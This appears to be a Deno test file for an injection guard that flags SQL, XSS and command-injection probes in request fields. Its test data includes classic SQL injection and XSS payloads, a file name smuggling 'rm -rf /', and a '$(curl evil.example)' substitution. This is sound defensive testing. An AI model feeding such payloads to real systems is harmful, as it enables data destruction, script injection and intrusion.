/**
 * guard.ts: what the injection rules catch and what they let through (run by
 * tests/core/functions/test_shared_middleware.py).
 */
import { deepStrictEqual as assertEquals } from "node:assert/strict";
import { inspect } from "./guard.ts";

const ALL = { sqlInjectionDetection: true, xssDetection: true, commandInjectionDetection: true };
const none = new URLSearchParams();

Deno.test("what customers write passes", () => {
  for (
    const text of [
      "Seats for QA",
      "O'Brien's team, 2nd floor",
      "Rock & roll; or not",
      "Q3 budget = 5000 USD",
      "buyer@example.test",
      "50% off -- thanks!",
      "select the pro plan",
      "price_pro_monthly",
      "Union Square office",
    ]
  ) {
    assertEquals(inspect(none, { items: [{ description: text }] }, ALL), undefined, text);
  }
});

Deno.test("probes are caught, naming the field and the rule, never the value", () => {
  const cases: [unknown, string, string][] = [
    [{ q: "x' OR '1'='1" }, "q", "sql-tautology"],
    [{ q: "1 UNION ALL SELECT password FROM users" }, "q", "sql-union-select"],
    [
      { items: [{ description: "a'; DROP TABLE quotes;" }] },
      "items[0].description",
      "sql-stacked-statement",
    ],
    [{ name: "admin'--" }, "name", "sql-comment-after-quote"],
    [{ note: "<script>alert(1)</script>" }, "note", "xss-script-tag"],
    [{ link: "javascript:alert(1)" }, "link", "xss-javascript-url"],
    [{ note: '<img src=x onerror="alert(1)">' }, "note", "xss-event-handler"],
    [{ file: "a.pdf; rm -rf /" }, "file", "command-chained"],
    [{ file: "$(curl evil.example)" }, "file", "command-substitution"],
    [{ ["<script>"]: 1 }, "body (a key)", "xss-script-tag"],
    [{ items: [{ ["x' OR '1'='1"]: 1 }] }, "items[0] (a key)", "sql-tautology"],
  ];
  for (const [body, field, rule] of cases) {
    assertEquals(inspect(none, body, ALL), { field, rule });
  }
  const query = new URLSearchParams({ id: "1 union select 1" });
  assertEquals(inspect(query, undefined, ALL), { field: "?id", rule: "sql-union-select" });
});

Deno.test("a category switched off in the settings is not applied", () => {
  const noXss = { ...ALL, xssDetection: false };
  assertEquals(inspect(none, { note: "<script>" }, noXss), undefined);
  assertEquals(inspect(none, { q: "1 union select 1" }, noXss)?.rule, "sql-union-select");
});
